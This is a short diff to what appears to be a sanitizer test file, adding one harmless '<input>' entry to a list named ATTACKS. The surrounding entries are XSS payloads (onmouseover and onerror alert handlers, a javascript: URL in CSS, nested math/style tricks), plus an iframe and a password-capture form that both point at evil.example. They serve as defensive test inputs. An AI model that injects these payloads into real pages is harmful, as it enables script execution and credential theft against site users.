@@ -143,6 +143,7 @@ ATTACKS = [
     "## x {: #y onmouseover=alert(1) }",
     '<iframe src="https://evil.example"></iframe>',
     '<form action="https://evil.example"><input name="password"><button>ok</button></form>',
+    "<input> <input disabled>",
     '<object data="x"></object><embed src="x">',
     '<math><mtext></mtext><style><img src=/x onerror=alert(1)></style></math>',
     '<p style="position:fixed;background:url(javascript:alert(1))">x</p>',
